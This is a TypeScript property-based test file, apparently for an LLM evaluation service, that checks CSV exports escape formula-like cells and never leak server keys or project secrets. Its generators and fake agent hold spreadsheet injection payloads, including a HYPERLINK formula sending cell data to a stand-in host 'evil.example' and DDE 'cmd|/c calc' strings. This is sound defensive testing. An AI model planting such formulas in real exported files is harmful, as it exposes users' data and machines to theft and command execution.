import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMetric, createSystemVersion, seedTestset } from '../pipeline/support.js';
import { parseCsv } from '../support/csv.js';
import { exportAndWait } from '../support/exports.js';
import { type FakeAgent, type FakeLLM, startFakeAgent, startFakeLLM } from '../support/fake-llm.js';
import { type ApiClient, apiClient, startTestStack, waitForRun } from '../support/stack.js';

/**
 * CSV exports (a run's, and the records page's) opened in a spreadsheet: any text a tenant, an agent or a judge
 * wrote that starts with = + - @ tab or CR (or their full-width forms) comes back behind a ', in every column,
 * headers included (property-based, through the real API and the presigned download). And no export carries a
 * secret of the server's: the LLM key, the admin key, a project secret, the data dir's own secrets.
 */

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
/** A cell a spreadsheet would run (or a DDE payload): what no export cell may start with, unless it is a number. */
const RUNNABLE = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

const formula = fc
  .tuple(
    fc.constantFrom(...TRIGGERS),
    fc.oneof(
      fc.constantFrom('HYPERLINK("http://evil.example/?"&A1,"x")', "cmd|'/c calc'!A1", 'SUM(A1:A9)', '1+1', ''),
      fc.string({ unit: 'grapheme', maxLength: 30 }),
    ),
  )
  .map(([trigger, rest]) => `${trigger}${rest}`);
const key = fc.stringMatching(/^[a-z][a-z0-9_]{0,8}$/);
const fields = fc.dictionary(key, formula, { minKeys: 1, maxKeys: 3 });
const posted = fc.record({
  inputs: fields,
  expected: fields,
  outputs: fields,
  error: fc.option(formula),
  reasoning: formula,
});

const SERVER_LLM_KEY = 'sk-server-llm-key-never-exported-4f1c';
const PROJECT_SECRET = 'project-secret-value-never-exported-9a2e';

let llm: FakeLLM;
let agent: FakeAgent;
let stack: Awaited<ReturnType<typeof startTestStack>>;
let api: ApiClient;
let projectId: string;
let metric: { id: string; versionId: string };
const metricName = '=cmd|"/c calc"!A1';

beforeAll(async () => {
  llm = await startFakeLLM({
    responder: () => ({ content: '{"reasoning": "@SUM(A1:A2) looks fine", "score": true}' }),
  });
  // The agent's reply is a formula: it lands in outputs.response, and the judge's reasoning is another.
  agent = await startFakeAgent({
    responder: () => ({ headers: { 'content-type': 'text/plain' }, body: '=HYPERLINK("http://evil.example") x' }),
  });
  stack = await startTestStack({
    pipeline: {
      openaiApiKey: SERVER_LLM_KEY,
      openaiBaseURL: `${llm.url}/v1`,
      retry: { baseDelayMs: 5, maxDelayMs: 20 },
    },
  });
  api = apiClient(stack.url, stack.apiKey);
  projectId = (await api.post('/projects', { name: 'csv' })).body.id;
  metric = await createMetric(api, projectId, { name: metricName, evalType: 'human', outputType: 'boolean' });
});
afterAll(async () => {
  await stack?.stop();
  await llm?.close();
  await agent?.close();
});

/** Decodes the body keeping a BOM (Response.text() would drop it). */
async function download(url: string) {
  const res = await fetch(url);
  expect(res.status).toBe(200);
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
}

/** The run's export and the records page's export of the same run, parsed. */
async function exportsOf(runId: string) {
  const run = (await exportAndWait(api, `/runs/${runId}/exports`)).settled;
  const page = (await exportAndWait(api, `/projects/${projectId}/records/exports`, { runId })).settled;
  expect(run.body.status, JSON.stringify(run.body)).toBe('completed');
  expect(page.body.status, JSON.stringify(page.body)).toBe('completed');
  return {
    run: await download(run.body.url),
    page: await download(page.body.url),
  };
}

describe('CSV injection', () => {
  it('every text that starts with = + - @ tab or CR comes back behind a quote, in both exports', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(posted, { minLength: 1, maxLength: 3 }), async (records) => {
        const runId = (await api.post(`/projects/${projectId}/runs`, { metricIds: [metric.id] })).body.id;
        const ids: string[] = [];
        for (const r of records) {
          const body = { inputs: r.inputs, expected: r.expected, outputs: r.outputs, error: r.error };
          const created = await api.post(`/runs/${runId}/records`, body);
          expect(created.status, JSON.stringify(created.body)).toBe(201);
          ids.push(created.body.id);
          const score = { score: { binaryScore: true, reasoning: r.reasoning } };
          expect((await api.put(`/records/${created.body.id}/scores/${metric.versionId}`, score)).status).toBe(200);
        }
        for (const text of Object.values(await exportsOf(runId))) {
          const [header, ...rows] = parseCsv(text).rows;
          for (const cell of [...header!, ...rows.flat()]) {
            if (RUNNABLE.test(cell)) expect(cell, 'a runnable cell').toMatch(NUMBER);
          }
          expect(header).toContain(`'${metricName}`);
          records.forEach((r, i) => {
            const row = rows.find((cells) => cells[0] === ids[i]);
            expect(row, ids[i]).toBeDefined();
            const at = (column: string) => row![header!.indexOf(column)];
            for (const group of ['inputs', 'expected', 'outputs'] as const) {
              for (const [k, v] of Object.entries(r[group])) expect(at(`${group}.${k}`)).toBe(`'${v}`);
            }
            expect(at(`'${metricName} reasoning`)).toBe(`'${r.reasoning}`);
            if (r.error !== null) expect(at('error')).toBe(`'${r.error}`);
          });
        }
      }),
      { numRuns: 20 },
    );
  });
});

/** Every secret the server holds: its LLM key, the admin key, a project secret, the files of the data dir. */
function serverSecrets() {
  const secrets = [SERVER_LLM_KEY, PROJECT_SECRET, stack.apiKey];
  for (const name of readdirSync(stack.dataDir)) {
    const path = join(stack.dataDir, name);
    if (!statSync(path).isFile() || statSync(path).size > 4096) continue;
    const text = readFileSync(path, 'utf8').trim();
    // Key files and the cursor secret: long random strings, each a secret on its own.
    for (const part of text.split(/[\s"{}:,[\]]+/)) if (part.length >= 16 && !/^\d+$/.test(part)) secrets.push(part);
  }
  return secrets;
}

describe('exports never carry a secret', () => {
  it('of a run whose system sends a project secret and whose judge uses the server’s LLM key', async () => {
    const seeded = await seedTestset(api, 4);
    expect((await api.put(`/projects/${seeded.projectId}/secrets/AGENT_TOKEN`, { value: PROJECT_SECRET })).status).toBe(
      200,
    );
    const versionId = await createSystemVersion(api, seeded.projectId, 'agent', {
      type: 'http',
      url: `${agent.url}/chat`,
      headers: { authorization: 'Bearer {{ secrets.AGENT_TOKEN }}' },
      body: '{"q": "{{ question }}"}',
    });
    const judge = await createMetric(api, seeded.projectId, { name: 'judge', evalType: 'ai', outputType: 'boolean' });
    const created = await api.post(`/projects/${seeded.projectId}/runs`, {
      testsetId: seeded.testsetId,
      systemVersionId: versionId,
      metricIds: [judge.id],
    });
    expect(created.status).toBe(201);
    const run = await waitForRun(api, created.body.id);
    expect(run.numRecords).toBe(4);
    expect(run).toMatchObject({ status: 'completed', numScores: 4 });
    // The agent got the secret and the judge the server's key, so an export had a chance to leak both.
    expect(agent.requests.some((r) => r.headers.authorization === `Bearer ${PROJECT_SECRET}`)).toBe(true);
    expect(llm.requests.some((r) => r.headers.authorization === `Bearer ${SERVER_LLM_KEY}`)).toBe(true);

    const run2 = (await exportAndWait(api, `/runs/${run.id}/exports`)).settled;
    const page = (await exportAndWait(api, `/projects/${seeded.projectId}/records/exports`, { runId: run.id })).settled;
    const texts = [await download(run2.body.url), await download(page.body.url)];
    const secrets = serverSecrets();
    expect(secrets.length).toBeGreaterThanOrEqual(4);
    for (const text of texts) {
      expect(parseCsv(text).rows).toHaveLength(5);
      for (const secret of secrets) expect(text.includes(secret), `an export holds ${secret.slice(0, 6)}…`).toBe(false);
      expect(text).toContain("'=HYPERLINK");
      expect(text).toContain("'@SUM(A1:A2)");
    }
  });
});
